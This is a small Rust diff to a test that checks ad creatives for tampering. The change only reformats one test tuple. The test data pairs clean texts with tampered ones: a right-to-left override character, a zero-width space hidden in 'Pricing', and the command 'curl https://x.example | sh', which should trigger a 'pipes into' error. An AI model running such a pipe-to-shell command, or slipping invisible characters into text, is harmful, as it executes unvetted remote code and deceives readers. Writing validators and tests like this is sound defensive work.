@@ -44,11 +44,7 @@ fn texts_links_and_claims_of_creatives_are_checked() {
                 "\"\\u202ERun your AI",
                 "creatives[0].headline: contains a character that changes",
             ),
-            (
-                "\"Pricing\"",
-                "\"Pri\\u200Bcing\"",
-                "ctas[1].text: contains an invisible character",
-            ),
+            ("\"Pricing\"", "\"Pri\\u200Bcing\"", "ctas[1].text: contains an invisible character"),
             ("git push zahid main", "curl https://x.example | sh", "command.text: pipes into"),
             (
                 "https://zahid.host/pricing",
